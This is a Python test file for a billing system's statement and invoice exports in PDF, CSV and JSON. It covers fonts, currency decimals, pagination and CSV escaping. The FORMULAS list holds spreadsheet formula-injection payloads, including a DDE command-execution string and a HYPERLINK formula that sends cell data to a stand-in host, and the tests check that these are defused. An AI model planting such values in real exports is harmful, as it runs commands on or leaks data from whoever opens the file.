"""Documents: legible on paper, safe in a spreadsheet, exact in JSON."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from itertools import pairwise
from typing import Any

import pytest
from pypdf import PdfReader

from cli.documents.fonts import BOX, legible
from cli.documents.invoice import InvoiceOf, invoice_csv, invoice_json, invoice_pdf
from cli.documents.sheet import safe, sheet
from cli.documents.statement import (
    StatementOf,
    statement_csv,
    statement_json,
)
from cli.documents.statement_pdf import statement_pdf
from events.journal import HELD, Leg
from projections.invoice import Billing
from projections.posted import Posted
from projections.statement import statement
from tests.projections.test_statements import booked, chain

NOVEMBER = 1_793_491_200_000
"""2026-11-01, midnight UTC, ms."""
DAY = 86_400_000


def sale(number: int, amount: int, unit: str = "EUR", **more: Any) -> Any:
    at = NOVEMBER + number * 3_600_000
    legs = (
        Leg("commissions", -amount, rule="sale"),
        Leg("payable", amount, rule="sale", available_at=more.pop("until", 0)),
    )
    return booked("commission", *legs, at=at, unit=unit, engine="2", **more)


def stated(*entries: Any, program: str = "Acme Ltd", partner: str = "Jane Doe") -> StatementOf:
    made = statement(chain(*entries), "jane", "acme", starts=0, ends=10**6, opened_at=NOVEMBER,
                     closed_at=NOVEMBER + 30 * DAY)  # fmt: skip
    return StatementOf(made, program, partner, 0, NOVEMBER, NOVEMBER + 30 * DAY)


def pages(pdf: bytes) -> list[str]:
    return [page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages]


def table(document: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(document.decode("utf-8-sig"), newline="")))


NAMES = ["Łukasz Żółć", "Ωμέγα Α.Ε.", "Юлия Їжак", "Nguyễn Đức Anh", "Ñandú Çağrı Þór ẞ"]


@pytest.mark.parametrize("name", NAMES)
def test_names_in_latin_greek_and_cyrillic_are_legible(name: str) -> None:
    [page] = pages(statement_pdf(stated(sale(1, 100), program=name, partner=name)))
    assert page.count(name) == 4, "at the head, at the foot, and among the facts twice"
    assert BOX not in page
    assert legible(name) == name


def test_letters_of_other_scripts_are_boxes_and_the_document_says_so() -> None:
    [page] = pages(statement_pdf(stated(sale(1, 100), partner="東京 Σ")))
    assert f"{BOX}{BOX} Σ (jane)" in page
    assert "the CSV and JSON of this document hold them as they are" in " ".join(page.split())


def test_an_accent_that_follows_its_letter_is_set_with_it() -> None:
    assert legible("Z\N{COMBINING DOT ABOVE}o\N{COMBINING ACUTE ACCENT}") == "Żó"


def test_the_same_statement_is_the_same_pdf() -> None:
    of = stated(*(sale(number, 100 + number, deal=f"D-{number}") for number in range(60)))
    assert statement_pdf(of) == statement_pdf(of)


def test_pages_are_numbered_and_headings_stand_on_each() -> None:
    of = stated(*(sale(number, 100_000 + number, deal=f"D-{number}") for number in range(200)))
    found = pages(statement_pdf(of))
    assert len(found) > 3
    for number, page in enumerate(found, 1):
        assert f"Page {number} of {len(found)}" in page
        assert "Acme Ltd" in page
        assert "Balance" in page, "the table's headings"
    text = "\n".join(found)
    assert [text.count(f"D-{number}\n") for number in range(200)] == [1] * 200
    assert "Closing balance\n200,199.00" in text
    closing = next(page for page in found if "Closing balance" in page)
    assert "D-199" in closing, "the closing balance does not stand alone on a page"


def test_text_that_looks_like_markup_is_text() -> None:
    [page] = pages(statement_pdf(stated(sale(1, 100, deal="<b>&amp;</b>"), partner="<font>A & B")))
    assert "<b>&amp;</b>" in page
    assert "<font>A & B (jane)" in page


def test_what_is_pending_held_and_paid_is_said() -> None:
    of = stated(
        sale(1, 10_000, until=NOVEMBER + 40 * DAY, deal="D-1"),
        sale(2, 2_500, until=HELD, deal="D-2", hold="review_above"),
        booked("payout_funded", Leg("payable", -4_000), Leg("in_transit", 3_300),
               Leg("withholding", 500), Leg("fees", 200), engine="2", payout="po-1",
               at=NOVEMBER + 3 * DAY),
        booked("no_effect", reason="no_rule", deal="D-3", unit="", at=NOVEMBER + 4 * DAY),
    )  # fmt: skip
    page = " ".join("\n".join(pages(statement_pdf(of))).split())
    for said in (
        "available from 2026-12-11",
        "review above waits for a decision",
        "fee 2.00 EUR",
        "withheld 5.00 EUR",
        "Closing balance 85.00",
        "available -40.00 EUR, pending 125.00 EUR, in transit 33.00 EUR, paid 0.00 EUR",
        "Booked nothing",
        "no rule",
    ):
        assert said in page
    assert of.made.closing_head.sha256 in page


DECIMALS = [
    ("JPY", 1_234_567, "1,234,567", "1234567"),
    ("EUR", -1_234_567, "-12,345.67", "-12345.67"),
    ("KWD", 1_234_567, "1,234.567", "1234.567"),
    ("acme:points", 1_234_567, "1,234,567", "1234567"),
]


@pytest.mark.parametrize(("unit", "amount", "printed", "decimal"), DECIMALS)
def test_each_unit_has_its_own_decimals(unit: str, amount: int, printed: str, decimal: str) -> None:
    of = stated(sale(1, amount, unit))
    assert f"Closing balance {printed}" in " ".join(pages(statement_pdf(of))[0].split())
    [_, entry, closing] = table(statement_csv(of))
    assert (entry["amount"], closing["balance"]) == (decimal, decimal)
    [section] = statement_json(of)["sections"]
    assert section["closing"]["payable"] == {"minor_units": amount, "decimal": decimal}
    assert section["decimals"] == (-Decimal(decimal).as_tuple().exponent or 0)


FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+4915",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=HYPERLINK("https://evil.test?x="&A1,"click")',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_becomes_a_formula(text: str) -> None:
    assert safe(text) == f"'{text}"
    of = stated(sale(1, 100, deal=text, reason=text), partner=text)
    for row in table(statement_csv(of)):
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r", "\n", "＝"))
            assert not cell.startswith("-") or Decimal(cell) < 0
    assert table(statement_csv(of))[1]["deal"] == f"'{text}"


@pytest.mark.parametrize("text", ["plain", "a=b", "1-2", "Żółć", "", 'quote " and, comma', "a\nb"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert table(sheet(["text"], [[text], ["end"]]))[0]["text"] == text if text else True
    assert safe(text) == text


def test_numbers_stay_numbers_below_zero() -> None:
    [row] = table(sheet(["a", "b", "c"], [[Decimal("-12.50"), -3, None]]))
    assert (row["a"], row["b"], row["c"]) == ("-12.50", "-3", "")


def test_the_csv_adds_up() -> None:
    of = stated(*(sale(number, 7 * number - 300) for number in range(1, 90)))
    rows = table(statement_csv(of))
    assert [row["row"] for row in rows] == ["opening", *["entry"] * 89, "closing"]
    for before, row in pairwise(rows[:-1]):
        balance = Decimal(before["balance"]) + Decimal(row["amount"])
        assert Decimal(row["balance"]) == balance
    assert rows[-1]["balance"] == rows[-2]["balance"]


def invoiced(partners: dict[str, str]) -> InvoiceOf:
    billing = Billing("acme")
    for offset, partner in enumerate(partners):
        entry = sale(offset, 1_000 * (offset + 1))
        named = type(entry)(**{**{f: getattr(entry, f) for f in entry.__struct_fields__},
                               "partner": partner})  # fmt: skip
        billing.take(Posted(0, offset, named, b""))
    took = booked("commission", Leg("wholesale", 5_000), Leg("payable", -5_000))
    billing.take(Posted(0, 99, took, b""))
    made = billing.invoice({"0": 5, "1": 0}, {"0": 100, "1": 0})
    return InvoiceOf(made, "acme-2026-11", 3, "2026-11", NOVEMBER + 30 * DAY, "decisions/0/7",
                     "Acme Ltd", partners)  # fmt: skip


def test_an_invoice_on_paper_as_csv_and_as_json() -> None:
    of = invoiced({"jane": "Łukasz Żółć", "omar": "=cmd", "zoe": ""})
    page = " ".join("\n".join(pages(invoice_pdf(of))).split())
    for said in (
        "Invoice acme-2026-11",
        "To be paid 60.00 EUR",
        "Łukasz Żółć (jane) Commission 1 10.00",
        "Total 60.00",
        "Taken from customers by partners, EUR",
        "journal/0 5 100",
        of.made.sha256,
    ):
        assert said in page
    assert invoice_pdf(of) == invoice_pdf(of)
    rows = table(invoice_csv(of))
    billed = [row for row in rows if row["account"] == "commissions"]
    assert sum(Decimal(row["amount"]) for row in billed) == Decimal("60.00")
    assert [row["partner_name"] for row in billed] == ["Łukasz Żółć", "'=cmd", ""]
    answer = invoice_json(of)
    assert answer["totals"] == [
        {"unit": "EUR", "decimals": 2, "minor_units": 6_000, "decimal": "60.00"}
    ]
    assert [line["minor_units"] for line in answer["lines"]] == [1_000, 5_000, 2_000, 3_000]
    assert (answer["sha256"], answer["issued_at"]) == (of.made.sha256, "2026-12-01T00:00:00Z")


def test_the_longest_names_and_the_largest_amounts_fit() -> None:
    unit = "p" * 64 + ":" + "u" * 64
    most = 10**18
    long = {"deal": "d" * 200, "reason": "why " * 3_000}
    entries = [sale(number, most, unit, **long) for number in (1, 2)]
    of = stated(*entries, partner="n" * 200, program="P" * 200)
    assert "2,000,000,000,000,000,000" in "".join(pages(statement_pdf(of)))
    billing = Billing("acme")
    billing.take(Posted(0, 0, sale(1, most, unit), b""))
    made = billing.invoice({"0": 0}, {"0": 10**12})
    invoice = InvoiceOf(made, "i" * 64, 1, "2026-11", 0, "", "P" * 200, {"jane": "n" * 200})
    assert "1,000,000,000,000,000,000" in "".join(pages(invoice_pdf(invoice)))


def test_an_invoice_over_nothing() -> None:
    made = Billing("acme").invoice({"0": 0}, {"0": 0})
    of = InvoiceOf(made, "acme-2026-11", 1, "2026-11", NOVEMBER, "decisions/0/7", "Acme Ltd")
    assert "Nothing was earned." in pages(invoice_pdf(of))[0]
    assert table(invoice_csv(of)) == []
